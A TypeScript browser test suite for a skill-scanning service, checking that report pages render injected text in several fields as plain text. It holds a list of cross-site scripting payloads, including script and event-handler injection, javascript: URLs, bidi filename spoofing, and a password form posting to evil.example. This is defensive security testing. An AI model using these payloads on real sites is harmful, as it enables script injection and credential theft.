/** Text that was written to break out of a page, shown under the real policy in a real browser. */

import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import {
  BROWSER_TIMEOUT_MS,
  browserPath,
  startBrowser,
  type Tab,
  type TestBrowser,
} from '../support/browser.ts'
import { startTestService, type TestService } from '../support/service.ts'
import { findingOf, wireRecord } from '../support/site-page.ts'
import { reach } from './states.ts'

/** Our own, for every way that text becomes more than text. */
const TEXTS: Record<string, string> = {
  element: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  attribute: '" onmouseover="alert(1)" x="',
  'end of a comment': '--><svg onload=alert(1)>',
  template: '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  'script address': 'javascript:alert(1)',
  'foreign picture': '![x](https://evil.example/pixel.png)<img src=https://evil.example/p.png>',
  'turned text': '\u202Egnp.exe\u202C\u2066\u0007',
  style: '</style><style>*{display:none}</style>',
  form: '<form action=https://evil.example><input name=password autofocus>',
}

const FIELDS = [
  'skillName',
  'skillVersion',
  'sourceRepo',
  'url',
  'context',
  'title',
  'errorMessage',
]

function recordWith(field: string, text: string): Record<string, unknown> {
  const context = { lines: [{ number: 1, text, hit: true }] }
  if (field === 'context') return wireRecord({ findings: [findingOf({ context })] })
  if (field === 'title')
    return wireRecord({ findings: [findingOf({ title: text, ruleId: text, cwe: text })] })
  if (field === 'errorMessage') return wireRecord({ status: 'failed', errorMessage: text })
  return wireRecord({ [field]: text })
}

describe.skipIf(browserPath === null)('in a real browser', () => {
  let service: TestService
  let browser: TestBrowser
  let tab: Tab
  let scanId = ''

  beforeAll(async () => {
    service = await startTestService()
    const files = [{ path: 'SKILL.md', content: '# Demo\n\nSay hello.\n' }]
    const answer = await (await service.post('/scan/bulk', { files, persist: true })).json()
    scanId = answer.results[0].scanId
    browser = await startBrowser()
    tab = await browser.open(service.url)
  }, BROWSER_TIMEOUT_MS)
  afterAll(async () => {
    await browser?.close()
    await service?.stop()
  })

  /** Elements that no view makes. */
  const intruders = () =>
    tab.page.evaluate(() =>
      [
        ...document.querySelectorAll(
          '#view :is(script, iframe, object, embed, style, base, link, meta, form, img, svg[onload])',
        ),
      ].map((found) => found.outerHTML),
    )

  async function staysText(field: string, text: string): Promise<void> {
    const answers = { [`/scan/${scanId}`]: { ...recordWith(field, text), scanId } }
    const reached = field === 'errorMessage' ? '.state-reason' : '.stone-letter'
    await reach(tab.page, service.url, { name: field, path: `/r/${scanId}`, answers, reached })
    expect(await intruders()).toEqual([])
    const policy = await tab.page.evaluate(() => location.pathname)
    expect(policy).toBe(`/r/${scanId}`)
    expect(tab.offences).toEqual([])
  }

  test.each(Object.keys(TEXTS))(
    '%s stays text in every field',
    async (name) => {
      for (const field of FIELDS) await staysText(field, TEXTS[name]!)
    },
    BROWSER_TIMEOUT_MS,
  )

  test(
    'a name that was stored stays text in the head of its page as well',
    async () => {
      const name = '</title><script>alert(1)</script>"><img src=x>'
      const content = `---\nname: ${JSON.stringify(name)}\n---\n# Demo\n`
      const files = [{ path: 'SKILL.md', content }]
      await service.post('/scan/bulk', { files, persist: true })
      await tab.page.unrouteAll()
      await tab.page.goto(`${service.url}/c/${encodeURIComponent(name)}`)
      await tab.page.waitForSelector('.stone-letter')
      expect(await tab.page.title()).toContain('</title>')
      const scripts = await tab.page.evaluate(() =>
        [...document.scripts].map((script) => script.getAttribute('src')),
      )
      expect(scripts).toEqual(['/assets/skill.js'])
      expect(tab.offences).toEqual([])
    },
    BROWSER_TIMEOUT_MS,
  )
})
